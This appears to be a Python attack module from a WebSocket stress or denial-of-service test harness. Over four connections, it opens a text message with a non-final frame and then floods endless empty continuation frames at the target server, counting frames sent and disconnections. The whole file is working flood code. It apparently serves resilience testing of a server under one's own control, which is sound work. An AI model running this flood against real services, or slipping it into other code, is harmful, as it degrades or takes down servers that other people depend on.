"""Empty continuation frames: a message that never ends and never grows, six bytes a frame."""

from __future__ import annotations

from contextlib import suppress

from .target import Target, frame

TEXT, CONTINUATION = 0x1, 0x0
CONNECTIONS = 4
AT_ONCE = 40_000


def attack(target: Target) -> str:
    """Send them as fast as the house takes them, over a few connections."""
    _, made = target.make("me", "me")
    flood, sent, refused = frame(CONTINUATION, final=False) * AT_ONCE, 0, 0
    while target.goes_on:
        doors = []
        with suppress(OSError):
            for _ in range(CONNECTIONS):
                doors.append(target.live(made["table"]))
                doors[-1].sendall(frame(TEXT, b"{", final=False))
        try:
            while target.goes_on:
                for door in doors:
                    door.sendall(flood)
                    sent += AT_ONCE
        except OSError:
            refused += 1
        for door in doors:
            door.close()
    return f"{sent:,} frames sent, cut off {refused} times"
